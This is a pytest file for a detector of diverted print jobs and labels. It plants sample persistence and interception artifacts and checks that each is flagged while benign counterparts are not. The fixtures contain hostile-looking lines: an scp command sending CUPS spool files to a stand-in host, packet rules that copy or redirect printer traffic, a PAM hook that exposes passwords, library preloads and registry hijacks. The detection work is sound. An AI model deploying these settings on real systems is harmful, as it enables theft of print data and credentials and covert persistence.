"""Evidence of diverted orders and labels: each planted object is reported, and its innocent counterpart is not.

The files are written for this test; the frozen PCs test the method as a whole.
"""

from pathlib import Path

import pytest

from waybillguard.sensor import examine

ID = "abcdefghijklmnopabcdefghijklmnop"
REG = "Windows Registry Editor Version 5.00\r\n\r\n"
PLANTED = {
    "a backend of CUPS that no package brings": {
        "etc/cups/printers.conf": "<Printer label>\nDeviceURI dup:/dev/usb/lp0\n</Printer>\n",
    },
    "a filter that hands jobs on": {"usr/lib/cups/filter/rastertolabel": '#!/bin/sh\ntee /var/x | cat "$6"\n'},
    "a PPD with a filter from elsewhere": {
        "etc/cups/ppd/label.ppd": '*PPD-Adobe: "4.3"\n*cupsFilter: "application/vnd.cups-raster 0 /opt/x/lbl"\n'
    },
    "jobs that CUPS keeps": {"etc/cups/cupsd.conf": "PreserveJobFiles 3600\n"},
    "a library in every program": {"etc/ld.so.preload": "/usr/local/lib/libq.so\n"},
    "a packet rule that doubles jobs": {
        "etc/iptables/rules.v4": "*mangle\n-A OUTPUT -p tcp --dport 9100 -j TEE --gateway 192.168.1.9\nCOMMIT\n"
    },
    "a packet rule of nftables": {
        "etc/nftables.conf": "table ip nat {\n tcp dport 9100 dnat to 192.168.1.9:9100\n}\n"
    },
    "a program at each device": {
        "etc/udev/rules.d/90-x.rules": 'SUBSYSTEM=="usbmisc", RUN+="/usr/local/sbin/cap.sh"\n'
    },
    "a program at each sign-in": {"etc/pam.d/gdm-password": "auth optional pam_exec.so expose_authtok /usr/local/bin/q\n"},
    "a share of the spool": {"etc/samba/smb.conf": "[x]\n path = /var/spool/cups\n"},
    "an extension from a folder": {
        f"C/Users/a/AppData/Local/Google/Chrome/User Data/Default/Extensions/{ID}/1/manifest.json": (
            '{"manifest_version": 3, "name": "x", "host_permissions": ["*://*.cainiao.com/*"]}'
        )
    },
    "a port into a file": {"p.json": '[{"Name": "C:\\\\x\\\\q.prn", "PortMonitor": "Local Port"}]'},
    "a printer's name led outside": {
        "hosts": "127.0.0.1 localhost\n192.0.2.9 zd421.lan\n",
        "p.json": '[{"Name": "a", "PortMonitor": "TCPMON.DLL", "PrinterHostAddress": "zd421.lan"}]',
    },
    "a consumer of WMI": {"wmi.txt": "Name : PrnHelp\nCommandLineTemplate : C:\\x\\y.exe\n"},
    "a start value": {
        "a.reg": REG + '[HKEY_CURRENT_USER\\Environment]\r\n"UserInitMprLogonScript"="C:\\\\ProgramData\\\\q\\\\q.exe"\r\n'
    },
    "a class taken over": {
        "a.reg": REG
        + "[HKEY_CURRENT_USER\\Software\\Classes\\CLSID\\{11111111-2222-3333-4444-555555555555}\\InprocServer32]\r\n"
        + '@="C:\\\\Users\\\\Public\\\\q.dll"\r\n'
    },
    "a script that sends jobs out": {"C/x/q.sh": "#!/bin/sh\nscp /var/spool/cups/d* u@192.0.2.8:/in/\n"},
    "a NetSupport client by its settings": {"C/ProgramData/q/client32.ini": "[HTTP]\nGatewayAddress=192.0.2.7:443\n"},
    "an administrator's key": {
        "C/ProgramData/ssh/administrators_authorized_keys": f"ssh-ed25519 {'A' * 60} night\n"
    },
    "a library in the print service": {
        "a.reg": REG
        + "[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\spoolsv.exe]\r\n"
        + '"VerifierDlls"="q.dll"\r\n'
    },
    "an input method from elsewhere": {
        "a.reg": REG
        + "[HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\Keyboard Layouts\\E0230804]\r\n"
        + '"Ime File"="..\\\\..\\\\ProgramData\\\\q.ime"\r\n'
    },
    "a name policy for a label's domain": {
        "a.reg": REG
        + "[HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\Dnscache\\Parameters\\DnsPolicyConfig\\q]\r\n"
        + '"Name"=".cainiao.com"\r\n"GenericDNSServers"="192.168.1.9"\r\n'
    },
    "a device that poses as a network card": {
        "setupapi.dev.log": (
            ">>>  [Device Install (Hardware initiated) - USB\\VID_1D6B&PID_0104\\1]\n"
            ">>>  Section start 2026/05/11 14:13:08.118\n     dvi:      Selected Driver - rndiscmp.inf\n"
        )
    },
    "a task at each print": {
        "C/Windows/System32/Tasks/q": (
            '<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Triggers><EventTrigger>'
            "<Subscription>&lt;Select Path='Microsoft-Windows-PrintService/Operational'&gt;*&lt;/Select&gt;</Subscription>"
            "</EventTrigger></Triggers><Actions><Exec><Command>C:\\Program Files\\q\\q.exe</Command></Exec></Actions></Task>"
        )
    },
    "a printer of a program that sends on": {
        "p.json": '[{"Name": "x", "PortMonitor": "TCPMON.DLL", "PrinterHostAddress": "127.0.0.1:9101"}]',
        "etc/systemd/system/q.service": "[Service]\nExecStart=/opt/q/q --listen 127.0.0.1:9101 --to 192.0.2.6:9100\n",
    },
    "a program that steers the browser": {
        "a.reg": REG
        + "[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"
        + '"x"="chrome.exe --remote-debugging-port=9222"\r\n'
    },
}  # fmt: skip
ORDINARY = {
    "CUPS as it comes": {
        "etc/cups/printers.conf": "<Printer label>\nDeviceURI usb://Zebra/ZD421\n</Printer>\n",
        "etc/cups/ppd/label.ppd": '*PPD-Adobe: "4.3"\n*cupsFilter: "application/vnd.cups-raster 0 rastertolabel"\n',
        "etc/cups/cupsd.conf": "PreserveJobFiles No\nListen localhost:631\n",
        "usr/lib/cups/backend/usb": "\x7fELF",
    },
    "what containers write": {
        "etc/iptables/rules.v4": "*nat\n-A DOCKER -p tcp --dport 8080 -j DNAT --to-destination 172.17.0.2:80\nCOMMIT\n"
    },
    "a rule for a scale": {"etc/udev/rules.d/60-s.rules": 'SUBSYSTEM=="tty", SYMLINK+="scale", RUN+="/usr/bin/true"\n'},
    "an extension of the store": {
        f"C/Users/a/AppData/Local/Google/Chrome/User Data/Default/Extensions/{ID[::-1]}/1/manifest.json": (
            '{"manifest_version": 3, "name": "x", "host_permissions": ["<all_urls>"],'
            ' "update_url": "https://clients2.google.com/service/update2/crx"}'
        )
    },
    "a PDF printer": {"p.json": '[{"Name": "PORTPROMPT:", "PortMonitor": "Local Monitor"}]'},
    "a class of a cloud drive": {
        "a.reg": REG
        + "[HKEY_CURRENT_USER\\Software\\Classes\\CLSID\\{11111111-2222-3333-4444-555555555555}\\InprocServer32]\r\n"
        + '@="C:\\\\Users\\\\a\\\\AppData\\\\Local\\\\Microsoft\\\\OneDrive\\\\q.dll"\r\n'
    },
    "a backup to the store": {"C/x/b.bat": "robocopy D:\\ERP \\\\192.168.1.9\\backup /MIR\r\n"},
}  # fmt: skip


Told = dict[str, list[str]]


@pytest.fixture(scope="module")
def told(tmp_path_factory: pytest.TempPathFactory) -> Told:
    """The findings of each case; all cases are in one collection, each in its own folder."""
    place = tmp_path_factory.mktemp("ways")
    names = [*PLANTED, *ORDINARY]
    for number, what in enumerate(names):
        for name, text in (PLANTED | ORDINARY)[what].items():
            path = place / f"{number:02}" / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text, "utf-8", newline="")
    said: Told = {what: [] for what in names}
    for finding in examine([str(place)])[0].findings:
        for number in {each.file[:2] for each in finding.facts}:
            said[names[int(number)]].append(f"{finding.severity} {finding.kind} {finding.detail_zh}")
    return said


@pytest.mark.parametrize("what", PLANTED)
def test_a_way_out_is_found(what: str, told: Told) -> None:
    assert told[what]


@pytest.mark.parametrize("what", ORDINARY)
def test_its_innocent_twin_is_not_accused(what: str, told: Told) -> None:
    assert told[what] == []


def test_of_json_that_is_cut_off_the_rows_before_are_read_and_the_loss_is_said(tmp_path: Path) -> None:
    (tmp_path / "services.json").write_text(
        '[{"Name": "a", "PathName": "C:\\\\Users\\\\Public\\\\a.exe"}, {"Name": "b", "Path', "utf-8"
    )
    found, _ = examine([str(tmp_path)])
    assert [each.tool for each in found.findings] == ["a"]
    assert [each.file for each in found.losses] == ["services.json"]
